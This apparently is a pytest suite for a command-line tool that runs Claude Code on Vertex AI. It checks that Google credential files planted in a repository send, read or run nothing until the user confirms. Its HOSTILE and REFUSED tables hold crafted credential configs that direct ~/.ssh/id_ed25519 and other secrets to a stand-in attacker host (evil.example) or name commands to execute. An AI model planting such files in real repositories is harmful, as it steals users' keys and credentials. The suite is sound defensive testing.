"""Test credential files from a repository: their targets are not read, sent or started."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pexpect
import pytest

from cloud import conftest
from cloud.fake import REFRESH, TOKEN, Google, private_key
from commandline import called
from security.hostile_server import AWS_SECRET, SSH_KEY, Stranger, lurking
from vxenv.google.credentials import find_credentials
from vxenv.google.failures import DiagnosedError
from vxenv.google.http import Http
from vxenv.google.recipients import find_credential_recipients
from vxenv.google.tokens import obtain

_loopback_only, google, environment = conftest._loopback_only, conftest.google, conftest.environment  # noqa: SLF001

PROBE = ("probe", "--models", "claude-opus-5-5", "--locations", "global")
GOOGLE_STS = "https://sts.googleapis.com/v1/token"
ACCOUNT = "projects/-/serviceAccounts/robot@acme-prod.iam.gserviceaccount.com:generateAccessToken"
AUDIENCE = "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/p"
PROGRAMS = (
    "subprocess.Popen",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "os.forkpty",
    "os.system",
    "pty.spawn",
)
Content = dict[str, Any]

_events: list[tuple[str, str]] = []
_listening: list[bool] = []


def _hear(event: str, arguments: tuple[Any, ...]) -> None:
    if _listening and (event in PROGRAMS or event == "open"):
        _events.append((event, os.fsdecode(arguments[0]) if isinstance(arguments[0], str | bytes) else ""))


sys.addaudithook(_hear)  # audit hooks cannot be removed: it is active only during a test


@pytest.fixture
def heard() -> Iterator[list[tuple[str, str]]]:
    """Return the programs started and files opened in this process since the start of the test."""
    _events.clear()
    _listening.append(True)
    yield _events
    _listening.clear()


@pytest.fixture
def stranger(tmp_path: Path) -> Iterator[Stranger]:
    """Provide a hostile server."""
    with lurking(tmp_path / "stranger") as one:
        yield one


@pytest.fixture
def ssh_key(home: Path) -> Path:
    """Provide a private file of the user."""
    path = home / ".ssh" / "id_ed25519"
    path.parent.mkdir()
    path.write_text(SSH_KEY)
    return path


@pytest.fixture
def shell(
    environment: Mapping[str, str], google: Google, profile: Callable[[str, str], Path]
) -> dict[str, str | None]:
    """Provide a shell with AWS secrets, and a profile that selects a Google server on loopback."""
    profile("p", f'[vertex]\nproject = "acme-prod"\nregion = "global"\n{google.table()}')
    session = {"CLAUDE_CODE_USE_VERTEX": "1", "ANTHROPIC_VERTEX_PROJECT_ID": "acme-prod", "CLOUD_ML_REGION": "global"}
    aws = {"AWS_ACCESS_KEY_ID": "AKIA", "AWS_SECRET_ACCESS_KEY": AWS_SECRET, "AWS_REGION": "us-east-1"}
    return {**environment, **session, **aws, "VXENV_PROFILE": "p", "VXENV_REASON": "use"}


def external(token_url: str, source: Content, **more: Any) -> Content:
    """Return an external account."""
    return {
        "type": "external_account",
        "audience": AUDIENCE,
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": token_url,
        "credential_source": source,
        **more,
    }


def person(**more: Any) -> Content:
    """Return a user's credentials."""
    return {"type": "authorized_user", "client_id": "i", "client_secret": "hush", "refresh_token": REFRESH, **more}


def robot(token_uri: str, **more: Any) -> Content:
    """Return a service account key."""
    key = {"private_key_id": "1", "private_key": private_key(), "client_email": "r@acme-prod.iam.gserviceaccount.com"}
    return {"type": "service_account", "client_id": "1", "token_uri": token_uri, **key, **more}


def impersonating(source: Content, url: str, **more: Any) -> Content:
    """Return an account impersonated from another."""
    return {"type": "impersonated_service_account", "service_account_impersonation_url": f"{url}/{ACCOUNT}",
            "source_credentials": source, "delegates": [], **more}  # fmt: skip


AWS: Content = {
    "subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
}
WORKFORCE: Content = {
    "type": "external_account_authorized_user",
    "audience": "//iam.googleapis.com/locations/global/workforcePools/p/providers/p",
    "client_id": "i",
    "client_secret": "hush",
    "refresh_token": REFRESH,
}

# The data that each file sends to the server at `u` after confirmation; `k` is a file of the user.
HOSTILE: dict[str, tuple[Callable[[str, str], Content], set[str]]] = {
    "file": (lambda u, k: external(f"{u}/token", {"file": k}), {SSH_KEY}),
    "file-json": (
        lambda u, k: external(f"{u}/token", {"file": k, "format": {"type": "json", "subject_token_field_name": "x"}}),
        set(),
    ),
    "url": (lambda u, _: external(f"{u}/token", {"url": f"{u}/", "headers": {"Authorization": "x"}}), set()),
    "impersonation": (
        lambda u, k: external(GOOGLE_STS, {"file": k}, service_account_impersonation_url=f"{u}/{ACCOUNT}"),
        set(),
    ),
    "universe": (lambda u, k: external(f"{u}/token", {"file": k}, universe_domain="evil.example"), {SSH_KEY}),
    "template": (
        lambda _, k: external("https://sts.{universe_domain}/v1/token", {"file": k}, universe_domain="evil.example"),
        set(),
    ),
    "info": (lambda u, k: external(GOOGLE_STS, {"file": k}, token_info_url=f"{u}/token"), set()),
    "aws": (
        lambda u, _: external(f"{u}/token", {
            "environment_id": "aws1", "region_url": f"{u}/", "url": f"{u}/", "imdsv2_session_token_url": f"{u}/",
            "regional_cred_verification_url": "https://iam.amazonaws.com?Action=CreateUser",
        }, **AWS),
        {"Signature="},
    ),
    "service-account": (lambda u, _: robot(f"{u}/token"), {"assertion"}),
    "workforce": (lambda u, _: {**WORKFORCE, "token_url": f"{u}/token", "token_info_url": f"{u}/"}, {REFRESH}),
    "impersonated-robot": (lambda u, _: impersonating(robot(f"{u}/token"), u), {"assertion"}),
    "impersonated-workforce": (lambda u, _: impersonating({**WORKFORCE, "token_url": f"{u}/token"}, u), {REFRESH}),
    "impersonated-universe": (lambda u, _: impersonating(person(universe_domain="evil.example"), u), set()),
}  # fmt: skip

# Files that are never used, confirmed or not.
REFUSED: dict[str, Callable[[str, str], Content]] = {
    "program": lambda u, _: external(f"{u}/token", {"executable": {"command": "touch ran"}}),
    "program-output": lambda u, k: external(
        f"{u}/token", {"executable": {"command": "touch ran", "output_file": k, "timeout_millis": 5000}}
    ),
    "program-null": lambda u, k: external(f"{u}/token", {"executable": {}, "file": k}),
    "program-text": lambda u, k: external(f"{u}/token", {"executable": "touch ran", "file": k}),
    "program-aws": lambda u, _: external(
        f"{u}/token", {"executable": {"command": "touch ran"}, "environment_id": "aws1"}, **AWS
    ),
    "program-nested": lambda u, _: impersonating(external(u, {"executable": {"command": "touch ran"}}), u),
    "program-google": lambda _, __: external(GOOGLE_STS, {"executable": {"command": "touch ran"}}),
    "certificate": lambda u, k: external(
        f"{u}/token", {"certificate": {"certificate_config_location": k, "trust_chain_path": k}}
    ),
    "certificate-default": lambda u, k: external(
        f"{u}/token", {"certificate": {"use_default_certificate_config": True, "trust_chain_path": k}}
    ),
    "gdch": lambda u, k: {
        "type": "gdch_service_account", "format_version": "1", "project": "p", "name": "n", "private_key_id": "1",
        "private_key": private_key(), "token_uri": f"{u}/token", "ca_cert_path": k,
    },
    "descriptor": lambda u, _: external(f"{u}/token", {"file": 0}),
    "descriptor-true": lambda u, _: external(f"{u}/token", {"file": True}),
    "list": lambda u, k: external(f"{u}/token", {"file": [k]}),
    "supplier": lambda u, k: external(f"{u}/token", {"file": k}) | {"credential_source": None},
    "nested-twice": lambda u, _: impersonating(impersonating(person(), u), u),
    "token-url-object": lambda u, k: external(f"{u}/token", {"file": k}) | {"token_url": {"a": u}},
}  # fmt: skip


def put(work: Path, content: Content) -> dict[str, str]:
    """Write a credential file into the repository, and return the variables for it."""
    path = work / "creds.json"
    path.write_text(json.dumps(content))
    return {"GOOGLE_APPLICATION_CREDENTIALS": str(path), "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES": "1"}


@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_is_read_or_sent_without_a_yes(  # noqa: PLR0917 - a case and fixtures
    kind: str, shell: dict[str, str | None], stranger: Stranger, google: Google, work: Path, ssh_key: Path,
    heard: list[tuple[str, str]],
) -> None:  # fmt: skip
    """Without confirmation nothing is read, sent or started; after it only the named data is sent."""
    make, secrets = HOSTILE[kind]
    there = {**put(work, make(stranger.server.url, str(ssh_key))), "HTTPS_PROXY": stranger.tunnel.url}
    ran = called(*PROBE, env={**shell, **there})

    assert (3, "", [], []) == (ran.code, ran.stdout, stranger.server.asked, google.asked), ran
    assert [] == stranger.tunnel.hosts
    assert [] == [one for one in heard if one[0] in PROGRAMS or one[1] == str(ssh_key)]
    assert "creds.json)" in ran.stderr

    called(*PROBE, "--yes", env={**shell, **there})
    assert secrets <= stranger.secrets() <= secrets | {TOKEN, "hush"}
    assert [] == [one for one in heard if one[0] in PROGRAMS]


@pytest.mark.parametrize("kind", REFUSED)
def test_what_is_never_used(  # noqa: PLR0917 - a case and fixtures
    kind: str, shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path,
    heard: list[tuple[str, str]],
) -> None:  # fmt: skip
    """Programs, client certificates and malformed sources are rejected before google-auth reads the file."""
    there = put(work, REFUSED[kind](stranger.server.url, str(ssh_key)))
    ran = called(*PROBE, "--yes", env={**shell, **there})

    assert (1, [], False) == (ran.code, stranger.server.asked, (work / "ran").exists()), ran
    assert [] == [one for one in heard if one[0] in PROGRAMS or one[1] == str(ssh_key)]
    assert ["vxenv", "hint"] == [line.partition(":")[0] for line in ran.stderr.splitlines()[-2:]]
    if kind.startswith("program") and kind != "program-null":
        assert "touch ran" in ran.stderr


def test_the_hook_hears(heard: list[tuple[str, str]], ssh_key: Path) -> None:
    """The audit hook records programs and files; the other tests depend on it."""
    subprocess.run(["true"], check=True)
    ssh_key.read_text()

    assert {"subprocess.Popen", "open"} <= {event for event, _ in heard}
    assert str(ssh_key) in {name for _, name in heard}


def test_a_command_is_shown_escaped(shell: dict[str, str | None], work: Path) -> None:
    """The program named in a file is shown escaped and truncated."""
    command = "touch \x1b[2J\u202eran" + "x" * 1000
    there = put(work, external(GOOGLE_STS, {"executable": {"command": command}}))
    ran = called(*PROBE, env={**shell, **there})
    line = ran.stderr.splitlines()[-2]

    assert (1, True, True) == (ran.code, line.isprintable(), "touch \\x1b[2J\\u202eran" in line)
    assert "creds.json" in line
    assert len(line) < 500


def test_both_ends_are_shown(shell: dict[str, str | None], work: Path, ssh_key: Path) -> None:
    """The question shows both the source and the destination, for any address."""
    there = put(work, external("https://sts.googleapis.com@evil.example/token?x=1", {"file": str(ssh_key)}))
    ran = called(*PROBE, env={**shell, **there})
    line = next(line for line in ran.stderr.splitlines() if "contents" in line)

    assert (
        "  the contents of ~/.ssh/id_ed25519 to https://evil.example/token "
        "(credential_source.file in ~/code/creds.json)"
    ) == line


def test_a_relative_file_is_shown_whole(shell: dict[str, str | None], work: Path) -> None:
    """A relative path is shown resolved."""
    there = put(work, external("https://evil.example/token", {"file": "../.ssh/../.ssh/id_ed25519"}))

    assert "the contents of ~/.ssh/id_ed25519 to" in called(*PROBE, env={**shell, **there}).stderr


def test_a_long_path_cannot_fill_the_screen(shell: dict[str, str | None], work: Path) -> None:
    """A long path is truncated with its length; blanks in it cannot push the address off the screen."""
    there = put(work, external("https://evil.example/token", {"file": "/" + " " * 3000 + "x"}))
    line = next(line for line in called(*PROBE, env={**shell, **there}).stderr.splitlines() if "contents" in line)

    assert len(line) < 500
    assert "characters) to https://evil.example/token (" in line


def test_a_source_for_google_is_asked_about_too(
    shell: dict[str, str | None], google: Google, work: Path, ssh_key: Path
) -> None:
    """A file that the user did not select sends nothing even to Google without confirmation."""
    ran = called(*PROBE, env={**shell, **put(work, external(GOOGLE_STS, {"file": str(ssh_key)}))})

    assert (3, []) == (ran.code, google.asked)
    assert "the contents of ~/.ssh/id_ed25519 to https://sts.googleapis.com/v1/token" in ran.stderr


def test_another_home_is_not_ones_own(
    shell: dict[str, str | None], google: Google, stranger: Stranger, work: Path, ssh_key: Path
) -> None:
    """Claude Code settings in a repository that name a home with credentials cause no read without confirmation."""
    usual = work / ".config" / "gcloud" / "application_default_credentials.json"
    usual.parent.mkdir(parents=True)
    usual.write_text(json.dumps(external(GOOGLE_STS, {"file": str(ssh_key)})))
    (work / ".claude").mkdir()
    (work / ".claude" / "settings.json").write_text(json.dumps({"env": {"HOME": str(work)}}))
    ran = called("doctor", "--online", env={**shell, "HTTPS_PROXY": stranger.tunnel.url})

    assert (3, [], []) == (ran.code, google.asked, stranger.tunnel.hosts), ran


def test_ones_own_file_is_not_asked_about(  # noqa: PLR0917 - fixtures
    environment: Mapping[str, str],
    google: Google,
    stranger: Stranger,
    home: Path,
    profile: Callable[[str, str], Path],
    ssh_key: Path,
) -> None:
    """A file named in the user's own profile, or written by gcloud, is used with Google without confirmation."""
    url = stranger.tunnel.url  # stands in for Google here, with an authority that the user's own profile names
    content = external(GOOGLE_STS, {"file": str(ssh_key)})
    own = home / "own.json"
    own.write_text(json.dumps(content))
    (home / ".config" / "gcloud" / "application_default_credentials.json").write_text(json.dumps(content))
    network = f'[network]\nhttps_proxy = "{url}"\nextra_ca_certs = "{stranger.tunnel.authority}"\n'
    base = '[vertex]\nproject = "acme-prod"\nregion = "global"\n'
    profile("named", f'{base}{network}[google]\ncredentials = "{own}"\n')
    profile("usual", base + network)
    there = {**dict.fromkeys(google.environment()), "HOME": environment["HOME"]}

    assert [0, 0] == [called("probe", name, *PROBE[1:], env=there).code for name in ("named", "usual")]
    assert {"sts.googleapis.com:443", "aiplatform.googleapis.com:443"} <= set(stranger.tunnel.hosts)


def test_a_file_that_changes_after_the_question(
    shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path, home: Path
) -> None:
    """Confirmation applies to the displayed content: a file changed meanwhile is not used."""
    harmless = home / "token"
    harmless.write_text("harmless")
    url = stranger.server.url
    named = {name: value for name, value in shell.items() if value is not None}
    named |= put(work, external(f"{url}/token", {"file": str(harmless)}))
    http = Http(named, find_credential_recipients(find_credentials(named), named, {}))
    put(work, external(f"{url}/token", {"file": str(ssh_key)}))

    with pytest.raises(DiagnosedError) as caught:
        obtain(named, http)
    assert ("unapproved", []) == (caught.value.diagnosis.name, stranger.server.asked)


@pytest.mark.parametrize("made", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")])
def test_no_file_that_never_ends(made: Callable[[Path], None], shell: dict[str, str | None], work: Path) -> None:
    """A FIFO or a device as a credential file, or as the target of one, is not read."""
    made(work / "endless")
    first = called(*PROBE, "--yes", env={**shell, "GOOGLE_APPLICATION_CREDENTIALS": str(work / "endless")})
    there = put(work, external("https://evil.example/token", {"file": str(work / "endless")}))
    second = called(*PROBE, "--yes", env={**shell, **there})

    assert [1, 1] == [first.code, second.code]


@pytest.mark.parametrize(("answer", "code", "sent"), [("n", 3, False), ("", 3, False), ("y", 0, True)])
def test_the_question_at_a_terminal(  # noqa: PLR0917 - cases and fixtures
    answer: str, code: int, sent: bool, shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path
) -> None:  # fmt: skip
    """At a terminal the question waits for an answer, and only "yes" sends."""
    there = put(work, external(f"{stranger.server.url}/token", {"file": str(ssh_key)}))
    named = {name: value for name, value in shell.items() if value is not None}
    env = {**os.environ, **named, **there, "VXENV_TODAY": "2026-11-22", "TERM": "dumb", "COLUMNS": "300"}
    with pexpect.spawn(sys.executable, ["-P", "-m", "vxenv", *PROBE], env=env, timeout=60, encoding="utf-8",
                       dimensions=(40, 300)) as child:  # fmt: skip
        child.expect(re.escape("the contents of ~/.ssh/id_ed25519 to " + stranger.server.url))
        child.expect_exact("Continue? [y/N]: ")
        child.sendline(answer)
        child.expect(pexpect.EOF)
        child.wait()
        assert (code, {SSH_KEY} if sent else set()) == (child.exitstatus, stranger.secrets() & {SSH_KEY})
